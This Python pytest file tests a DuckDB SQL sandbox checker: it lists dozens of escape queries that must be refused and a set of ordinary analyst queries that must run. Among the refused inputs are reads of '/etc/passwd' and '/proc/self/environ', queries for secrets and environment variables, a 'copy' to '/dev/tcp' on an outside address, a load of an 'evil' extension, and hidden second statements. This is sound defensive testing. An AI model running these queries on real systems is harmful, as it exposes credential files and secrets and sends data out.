"""What a query may be: attempts to reach out, each refused for its reason; what analysts write, all let through."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from backhaul.sandbox import errors
from backhaul.sandbox.check import FUNCTIONS, Published, check
from backhaul.sandbox.limits import Limits
from backhaul.sandbox.worker import opened

ESCAPES: dict[type[errors.QueryError], list[str]] = {
    errors.TableNotAllowed: [
        # files as tables
        "select * from '/etc/passwd'",
        "from 'data.parquet'",
        'select * from "/proc/self/environ"',
        "from 'https://example.org/x.csv'",
        "from 's3://bucket/key.parquet'",
        "select * from core.fct_cost join '/etc/hosts' on true",
        "select (select count(*) from '/etc/passwd')",
        "select 1 where exists (from '/etc/passwd')",
        "with a as (from '/etc/passwd') select 1",
        "select 1 order by (select 1 from '/etc/passwd')",
        "select 1 limit (select 1 from '/etc/passwd')",
        "select sum(amount_reporting) filter (where exists (from '/etc/passwd')) from core.fct_cost",
        "select sum(1) over (partition by (select 1 from '/etc/passwd')) from core.fct_cost",
        "select list_transform([1], lambda x: (select x from '/etc/passwd'))",
        "from (pivot '/etc/passwd' on a in (1) using sum(b))",
        "unpivot '/etc/passwd' on a",
        "describe '/etc/passwd'",
        "summarize '/etc/passwd'",
        "from (values ((select 1 from '/etc/passwd')))",
        "from range((select 1 from '/etc/passwd'))",
        # other schemas of the file, other databases, the engine's catalogue (it tells paths)
        "select * from raw_rows.customer",
        "select * from main.loose",
        "select * from loose",
        "from duckdb_databases",
        "from pragma_database_list",
        "select sql from sqlite_master",
        "from information_schema.tables",
        "from pg_catalog.pg_class",
        "from system.main.duckdb_databases",
        "from temp.core.fct_cost",
        'from "20260701T060000-first".raw_rows.customer',
        "with duckdb_databases as (select * from duckdb_databases) from duckdb_databases",
        "from (with duckdb_databases as (select 1) from duckdb_databases) a, duckdb_databases",
        "with recursive duckdb_databases as (select * from duckdb_databases) from duckdb_databases",
        "from (with a as (select 1) from a) x, a",
        # a name of the query's own hides nothing that stands elsewhere
        "with duckdb_databases as (select 1) from duckdb_databases",
        "with loose as (select * from loose) from loose",
        "with recursive loose as (select * from loose) from loose",
        "with customer as (select 1) from raw_rows.customer",
        "/* from core.fct_cost */ from--\n'/etc/passwd'",
        'from "raw_rows"."customer"',
        # a variable of the Python program around it
        "select * from request",
        "from sys_modules",
    ],
    errors.FunctionNotAllowed: [
        "select * from read_csv('/etc/passwd')",
        "from read_csv_auto('/etc/passwd')",
        "from read_text('/etc/passwd')",
        "from read_blob('20260701T060000-first.duckdb')",
        "from read_blob('*')",
        "from read_parquet('x')",
        "from parquet_scan('x')",
        "from parquet_metadata('x')",
        "from read_json('x')",
        "from read_ndjson_objects('x')",
        "from read_duckdb('x')",
        "from sniff_csv('/etc/passwd')",
        "from glob('/*')",
        "from READ_TEXT('/etc/passwd')",
        "from \"read_text\"('/etc/passwd')",
        "from system.main.read_text('/etc/passwd')",
        "select * from core.fct_cost, lateral (from read_text('/etc/passwd'))",
        "select unnest((select list(content) from read_text('/etc/passwd')))",
        "from query('from read_text(''/etc/passwd'')')",
        "from query_table('raw_rows.customer')",
        "from json_execute_serialized_sql('{}')",
        "select json_serialize_sql('select 1')",
        "select json_deserialize_sql('{}')",
        "select json_serialize_plan('select 1')",
        # settings, secrets, logs, what the engine knows of itself
        "select current_setting('temp_directory')",
        "select system.main.current_setting('temp_directory')",
        "select 'temp_directory'.current_setting()",
        "from duckdb_settings()",
        "from duckdb_secrets()",
        "from duckdb_databases()",
        "from duckdb_temporary_files()",
        "from duckdb_logs()",
        "from which_secret('s3://x', 's3')",
        "from pragma_database_size()",
        "from pragma_storage_info('core.fct_cost')",
        "from pragma_version()",
        "select * from enable_logging(storage = 'file', storage_path = '/tmp/x')",
        "from enable_profiling()",
        "from truncate_duckdb_logs()",
        "from checkpoint()",
        "from import_database('/tmp')",
        "select write_log('x')",
        "select getvariable('x')",
        "select getenv('HOME')",
        "select current_query()",
        "select current_database()",
        "select txid_current()",
        "select nextval('s')",
        "select version()",
        "select system.main.abs(1)",
        "select inet_server_addr()",
        "select pg_get_viewdef(1)",
        # holding a place, and values that the engine trusts
        "select sleep_ms(100000)",
        "select pg_sleep(100)",
        "select finalize('x'::blob)",
        "select variant_bytes_to_variant('x'::blob, 'y'::blob)",
        "select list_transform(['a'], lambda x: current_setting(x))",
        "select sum(1) filter (where current_setting('x') = '') from core.fct_cost",
        "select * from core.fct_cost order by current_setting('x')",
        "select * from core.fct_cost qualify row_number() over (order by getenv('x')) = 1",
        "select columns(lambda c: c = current_setting('x')) from core.fct_cost",
        "select * replace (current_setting('x') as node_id) from core.fct_cost",
        "from range(length(current_setting('x')))",
        "select case when true then current_setting('x') end",
        "from core.fct_cost group by current_setting('x')",
        "from pandas_scan(1)",
        "from python_map_function(1)",
        "from arrow_scan(1, 2, 3)",
        "from seq_scan('x')",
        "from repeat_row(1, num_rows = 10)",
        "from test_all_types()",
    ],
    errors.NotASelect: [
        "attach '/tmp/other.duckdb'",
        "detach core",
        "use main",
        "copy core.fct_cost to '/tmp/x.csv'",
        "copy (select 1) to '/dev/tcp/1.2.3.4/80'",
        "copy core.fct_cost from '/etc/passwd'",
        "export database '/tmp/x'",
        "import database '/tmp/x'",
        "install httpfs",
        "force install spatial from community",
        "load httpfs",
        "load '/tmp/evil.duckdb_extension'",
        "set memory_limit = '1TB'",
        "set lock_configuration = false",
        "reset memory_limit",
        "set variable x = 1",
        "pragma enable_profiling = 'json'",
        "pragma database_list",
        "pragma version",
        "create secret s (type s3, key_id 'a', secret 'b')",
        "drop table core.fct_cost",
        "insert into core.fct_cost select * from core.fct_cost",
        "update core.fct_cost set node_id = 1",
        "delete from core.fct_cost",
        "create table t as select 1",
        "create temp table t as from read_text('/etc/passwd')",
        "create view v as select 1",
        "create macro m() as current_setting('x')",
        "create type t as enum (select 'a')",
        "alter table core.fct_cost add column x int",
        "comment on table core.fct_cost is 'x'",
        "call pragma_version()",
        "call enable_logging(storage = 'file')",
        "prepare p as select 1",
        "execute p",
        "explain select 1",
        "explain analyze select * from read_text('/etc/passwd')",
        "begin transaction",
        "checkpoint",
        "vacuum",
        "merge into core.fct_cost using core.dim_node using (node_id) when matched then delete",
    ],
    errors.NotOneStatement: [
        "",
        "   -- nothing",
        "select 1; select 2",
        "select 1; attach '/tmp/x'",
        "select 1 /* ; */ ; -- '\n copy core.fct_cost to '/tmp/x'",
        "pragma version; select 1",
    ],
    errors.NotParsed: [
        "selec 1",
        "select 'unfinished",
        "select /* unfinished",
    ],
    errors.ConstructNotAllowed: [
        "show",
        "show tables",
        "show databases",
        "show all tables",
        "from (show databases)",
        "with gone as (delete from core.fct_cost returning *) from gone",
        "with added as (insert into core.dim_node values (9, 'x') returning *) from added",
        "select $1",
        "select ?",
        "select default",
    ],
    errors.PivotWithoutValues: ["pivot core.fct_cost on node_id using sum(amount_reporting)"],
    errors.TooLong: [
        "select " + "1+" * 30_000 + "1",
    ],
}
QUESTIONS = [
    "select * from core.fct_cost",
    "FROM Core.FCT_Cost",
    "from fct_cost limit 3",
    "table marts.mart_cost_per_return",
    "values (1, 'a'), (2, 'b')",
    "describe core.fct_cost",
    "summarize select node_id, amount_reporting from core.fct_cost",
    "with a as (from core.fct_cost), b as (select * from a where node_id = 1) select * from a join b using (mass)",
    (
        "with recursive months as (select date '2026-01-01' as day union all select day + interval 1 month from months "
        "where day < date '2026-06-01') select * from months"
    ),
    "select node_id, sum(amount_reporting), count(*) filter (where unit_key > 10) from core.fct_cost group by all",
    (
        "select *, row_number() over w, lag(amount_reporting) over w, sum(amount_reporting) over (w rows 3 preceding) "
        "from core.fct_cost window w as (partition by node_id order by occurred_date)"
    ),
    "select * from core.fct_cost qualify rank() over (partition by node_id order by amount_reporting desc) <= 3",
    "pivot core.fct_cost on node_id in (0, 1, 2) using sum(amount_reporting) group by occurred_date",
    "from (pivot core.fct_cost on node_id in (0, 1) using count(*))",
    "unpivot (select node_id, amount_reporting, unit_key from core.fct_cost) on amount_reporting, unit_key",
    "select evidence[1], list_transform(evidence, lambda x: lower(x)), [x for x in evidence if x > 'A'] from fct_cost",
    "select mass.kg, struct_pack(a := 1).a, {'b': 2}, map {'k': 1}['k'] from core.fct_cost",
    "select unnest(evidence) as code, count(*) from core.fct_cost group by 1 order by 2 desc limit 5 offset 1",
    "select d.label_en, c.* exclude (evidence) from core.fct_cost c left join core.dim_node d on d.node_id = c.node_id",
    "from core.fct_cost c asof join core.dim_node d on c.node_id >= d.node_id",
    "from core.fct_cost semi join core.dim_node using (node_id)",
    "select grouping(node_id), node_id, sum(amount_reporting) from core.fct_cost group by rollup (node_id)",
    (
        "select quantile_cont(amount_reporting, 0.9), median(unit_key), mode(node_id), "
        "arg_max(unit_key, amount_reporting) from core.fct_cost"
    ),
    (
        "select date_trunc('month', occurred_date), extract(year from occurred_date), strftime(occurred_date, '%Y-%m') "
        "from core.fct_cost where occurred_date between date '2026-01-01' and date '2026-02-01'"
    ),
    (
        "select case when node_id in (1, 2) then 'x' else 'y' end, coalesce(null, 1), nullif(1, 2), "
        "try_cast('a' as int), 1::decimal(9, 2), not true, node_id is not null, label_en like 'N%' from core.dim_node"
    ),
    "select string_agg(label_en, ', ' order by node_id) from core.dim_node",
    "select regexp_extract(label_en, '(\\d+)', 1), split_part(label_en, 'N', 2), label_en || '!' from core.dim_node",
    "select node_id from core.fct_cost union select node_id from core.dim_node except select 1 intersect select 2",
    "select * from range(10) t(i), generate_series(1, 3) s(j), unnest([1, 2]) u(k)",
    "select (select max(label_en) from core.dim_node d where d.node_id = c.node_id) from core.fct_cost c",
    "select columns('.*_id') from core.fct_cost order by all",
    "select label_en from core.dim_node order by label_en collate nocase",
    "from core.fct_cost using sample 10 rows",
    "select distinct on (node_id) * from core.fct_cost order by node_id, amount_reporting",
    "select to_json(mass)->>'$.kg', json_extract('{\"a\": 1}', '$.a') from core.fct_cost",
    "from json_each('{\"a\": 1}')",
    "select 1 -- a comment; with a semicolon\n;",
    "from quality.quality_finding",
]


@pytest.fixture(scope="module")
def connection(database: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    with opened(str(database), Limits()) as connection:
        yield connection


@pytest.fixture(scope="module")
def published(connection: duckdb.DuckDBPyConnection) -> Published:
    return Published.of(connection)


ATTEMPTS = [(reason, sql) for reason, attempts in ESCAPES.items() for sql in attempts]


@pytest.mark.parametrize(("reason", "sql"), ATTEMPTS, ids=[sql[:60] for _, sql in ATTEMPTS])
def test_an_attempt_is_refused_for_its_reason(
    connection: duckdb.DuckDBPyConnection, published: Published, reason: type[errors.QueryError], sql: str
) -> None:
    with pytest.raises(errors.QueryError) as refused:
        check(connection, sql, published)
    assert type(refused.value) is reason
    assert str(refused.value)


@pytest.mark.parametrize("sql", QUESTIONS)
def test_what_analysts_write_is_let_through_and_runs(
    connection: duckdb.DuckDBPyConnection, published: Published, sql: str
) -> None:
    check(connection, sql, published)
    assert connection.sql(sql).fetchall()


def test_there_are_attempts_enough() -> None:
    assert len({sql for _, sql in ATTEMPTS}) >= 60


def test_the_list_of_functions_names_functions_that_there_are() -> None:
    with duckdb.connect() as engine:
        known = {name for (name,) in engine.execute("select distinct function_name from duckdb_functions()").fetchall()}
    # syntax that the parser writes as a function
    assert FUNCTIONS - known <= {"unnest"}


def test_a_name_that_is_not_there_is_answered_with_the_nearest(
    connection: duckdb.DuckDBPyConnection, published: Published
) -> None:
    with pytest.raises(errors.TableNotAllowed, match=r"Nearest: core\.fct_cost"):
        check(connection, "from core.fct_costs", published)
